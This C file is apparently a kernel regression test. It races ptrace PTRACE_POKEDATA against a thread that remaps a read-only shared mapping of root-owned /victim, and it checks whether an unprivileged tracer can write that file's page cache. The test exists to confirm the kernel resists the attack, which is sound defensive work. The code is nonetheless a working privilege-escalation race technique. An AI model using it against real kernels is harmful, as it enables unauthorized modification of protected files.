/* tests/poke-race/poke_race.c: attack round 7's ptrace poke race, run by
 * tests/poke-race.sh on an ext2 root disk. Layer: a user program (static
 * glibc), run as root, then as uid 1000.
 *
 * A tracer (uid 1000) pokes a word into a private read-only mapping of a
 * file page not yet read from the disk, so the poke's fault sleeps; a
 * thread of the tracee (the traced thread stays stopped) meanwhile puts a
 * MAP_SHARED read-only mapping of /victim (root's, mode 0644) at the same
 * address. The poke must not write /victim's page cache. Prints how many
 * pokes returned after such a swap ("raced"), so the run shows the race
 * was actually taken. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdint.h>
#include <string.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <sys/syscall.h>

#define X ((void *)0x500000000000ULL)
#define ROUNDS 40
struct ctl { volatile int ready, poking, swapped, pokedone; volatile int tid; };
static struct ctl *ctl;
static int bigfd, vfd;

static void *helper(void *a)
{
	(void)a;
	for (int i = 1; i <= ROUNDS; i++) {
		if (mmap(X, 4096, PROT_READ, MAP_PRIVATE | MAP_FIXED, bigfd, (off_t)i << 20) != X)
			printf("map private failed %d\n", errno);
		ctl->ready = i;
		while (ctl->poking != i)
			;
		if (mmap(X, 4096, PROT_READ, MAP_SHARED | MAP_FIXED, vfd, 0) != X)
			printf("map shared failed %d\n", errno);
		(void)*(volatile char *)X;
		ctl->swapped = i;
		while (ctl->pokedone != i)
			;
	}
	return 0;
}

int main(void)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (setresgid(1000, 1000, 1000) || setresuid(1000, 1000, 1000))
		printf("setuid failed\n");
	printf("uid %d, open victim rw: %s\n", getuid(), open("/victim", O_RDWR) < 0 ? strerror(errno) : "OPENED?!");
	ctl = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	vfd = open("/victim", O_RDONLY);
	bigfd = open("/big", O_RDONLY);
	char buf[32] = {0};
	pread(vfd, buf, 16, 0);
	printf("victim before: %.16s\n", buf);
	pid_t c = fork();
	if (c == 0) {
		pthread_t th;
		pthread_create(&th, 0, helper, 0);
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		pthread_join(th, 0);
		_exit(0);
	}
	int st;
	waitpid(c, &st, __WALL);
	printf("tracee stopped: %d\n", WIFSTOPPED(st));
	int hits = 0, eio = 0, ok = 0, raced = 0;
	for (int i = 1; i <= ROUNDS; i++) {
		while (ctl->ready != i)
			sched_yield();
		ctl->poking = i;
		long r = ptrace(PTRACE_POKEDATA, c, X, 0x4141414141414141L);
		int sw = ctl->swapped == i;
		raced += sw;
		if (r == 0) ok++; else eio++;
		if (r == 0 && sw) hits++;
		ctl->pokedone = i;
	}
	memset(buf, 0, sizeof buf);
	pread(vfd, buf, 16, 0);
	printf("pokes ok %d refused %d, raced %d, ok after a swap %d\n", ok, eio, raced, hits);
	printf("victim after: %.16s\n", buf);
	printf("%s\n", memcmp(buf, "original", 8) == 0 ? "victim intact" : "BREAK: a read-only root file was written");
	kill(c, SIGKILL);
	waitpid(c, &st, __WALL);
	return 0;
}
